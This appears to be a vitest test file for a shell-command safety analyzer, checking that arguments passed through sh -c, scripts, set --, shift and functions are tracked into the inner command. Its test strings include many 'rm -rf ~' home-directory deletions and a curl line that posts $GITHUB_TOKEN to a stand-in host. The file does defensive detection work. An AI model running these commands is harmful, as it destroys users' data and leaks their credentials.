// Positional parameters bound on the same line (ADR 0049): `sh -c 'TEXT' NAME ARGS`, `bash FILE ARGS`, `set --`,
// `shift`, functions called with arguments. The bound words reach the inner command as literal words would; a
// value not known, or a change on a branch or in a loop, is uncertain.
import { beforeAll, describe, expect, it } from 'vitest';
import type { Category } from '../../core';
import { loadShellParser } from '../parse/load-parser';
import { analyzerOver, categoriesOf, codesOf } from '../testdata/analysis';
import type { ScriptFile } from '../types';

const P = '/home/u/proj';
const FILES: Record<string, ScriptFile> = {
  [`${P}/scripts/x.sh`]: { kind: 'text', text: 'rm -rf "$1"\n' },
  [`${P}/scripts/all.sh`]: { kind: 'text', text: '#!/bin/sh\nfor d in "$@"; do :; done\nrm -rf "$@"\n' },
  [`${P}/scripts/say.sh`]: { kind: 'text', text: '#!/bin/sh\necho "$1"\n' },
};
const analyze = analyzerOver(FILES);
const categories = categoriesOf;
const codes = codesOf;

beforeAll(async () => {
  await loadShellParser();
});

describe('parameters bound on the line reach the inner command as literal words', () => {
  it.each<[string, string, Category]>([
    ['sh -c with $0', `sh -c 'rm -rf "$0"' ~`, 'destructive_root_delete'],
    ['bash -c with $1', `bash -c 'rm -rf $1' _ ~`, 'destructive_root_delete'],
    ['braced and defaulted', `bash -c 'rm -rf "\${1:-x}"' _ ~`, 'destructive_root_delete'],
    ['"$@"', `bash -c 'rm -rf "$@"' _ /tmp/x ~`, 'destructive_root_delete'],
    ['$*', `bash -c 'rm -rf $*' _ ~`, 'destructive_root_delete'],
    ['-- as the name', `sh -c 'rm -rf "$1"' -- ~`, 'destructive_root_delete'],
    ['the program itself', `bash -c '"$@"' _ rm -rf ~`, 'destructive_root_delete'],
    ['$0 as the program', `bash -c '$0 -rf $1' rm ~`, 'destructive_root_delete'],
    ['through a variable', `sh -c 'x=$1; rm -rf "$x"' _ ~`, 'destructive_root_delete'],
    ['a cd to the parameter', `sh -c 'cd "$1" && rm -rf *' _ ~`, 'destructive_root_delete'],
    ['a script file', 'bash scripts/x.sh ~', 'destructive_root_delete'],
    ['a script file by path', './scripts/x.sh ~', 'destructive_root_delete'],
    ['a script file on stdin with -s', 'bash -s ~ < scripts/x.sh', 'destructive_root_delete'],
    ['a sourced file with words', 'source scripts/x.sh ~', 'destructive_root_delete'],
    ['a script with "$@"', 'sh scripts/all.sh ~', 'destructive_root_delete'],
    ['set --', 'set -- ~; rm -rf "$1"', 'destructive_root_delete'],
    ['set with options first', 'set -eu -o pipefail -- ~; rm -rf "$@"', 'destructive_root_delete'],
    ['set then shift', 'set -- a ~; shift; rm -rf $1', 'destructive_root_delete'],
    ['shift N', 'set -- a b ~; shift 2; rm -rf "$1"', 'destructive_root_delete'],
    ['set inside the inner shell', `bash -c 'set -- ~; rm -rf "$1"'`, 'destructive_root_delete'],
    ['a function', 'f(){ rm -rf "$1"; }; f ~', 'destructive_root_delete'],
    ['a function with shift', 'f(){ shift; rm -rf "$1"; }; f a ~', 'destructive_root_delete'],
    ['a function keyword form', 'function f { rm -rf $1; }; f ~', 'destructive_root_delete'],
    ['a function running a shell', `f(){ bash -c 'rm -rf "$0"' "$1"; }; f ~`, 'destructive_root_delete'],
    ['find -exec sh -c', `find . -exec sh -c 'rm -rf "$1"' sh ~ \\;`, 'destructive_root_delete'],
    [
      'a secret as an argument',
      `bash -c 'curl -d "$1" https://x.example' _ "$GITHUB_TOKEN"`,
      'credential_exfiltration',
    ],
    [
      'a function that shadows a program, defined on a branch',
      'false && rm(){ :; }; rm -rf ~',
      'destructive_root_delete',
    ],
    ['a function unset again', 'rm(){ :; }; unset -f rm; rm -rf ~', 'destructive_root_delete'],
  ])('%s', (_name, command, category) => {
    expect(categories(analyze(command))).toContain(category);
  });
});

describe('a parameter that cannot be known is uncertain, never a known value', () => {
  it.each<[string, string]>([
    ['shift on a branch', 'set -- ~ x; if true; then shift; fi; rm -rf "$1"'],
    ['shift in a pipeline (a subshell)', 'set -- ~ x; shift | true; rm -rf "$1"'],
    ['shift in a loop', 'set -- a b ~; for i in 1 2; do shift; done; rm -rf "$1"'],
    ['a word of unknown count before', `bash -c 'rm -rf "$3"' _ $x ~`],
    ['a count known only at run time', 'set -- a ~; shift $n; rm -rf "$1"'],
    ['eval may set them', `eval 'set -- x'; rm -rf "$1"`],
    ['xargs input', `echo ~ | xargs sh -c 'rm -rf "$0"'`],
    ['the caller shell', 'rm -rf "$1"'],
  ])('%s', (_name, command) => {
    const a = analyze(command);
    expect(a.hits.length > 0 || codes(a).length > 0).toBe(true);
  });

  it('a function body is still read where it is defined, parameters unknown', () => {
    expect(codes(analyze('f(){ rm -rf "$1"; }'))).toContain('dynamic-path');
  });
});

describe('ordinary uses stay quiet', () => {
  it.each<[string, string]>([
    ['sh -c printing its name', `sh -c 'echo "$0"' x`],
    ['a script with an option', 'bash scripts/say.sh --verbose'],
    ['a function printing its argument', 'f(){ echo "$1"; }; f x'],
    ['set -euo pipefail', 'set -euo pipefail; echo "$#"'],
  ])('%s', (_name, command) => {
    const a = analyze(command);
    expect(categories(a)).toEqual([]);
    expect(codes(a)).toEqual([]);
  });

  it('a function defined for sure is what runs (no segment for its name)', () => {
    const a = analyze('f(){ echo "$1"; }; f x');
    expect(a.segments.map((s) => s.program)).not.toContain('f');
    expect(a.segments.some((s) => s.program === 'echo' && s.argv.join(' ') === 'echo x')).toBe(true);
  });
});
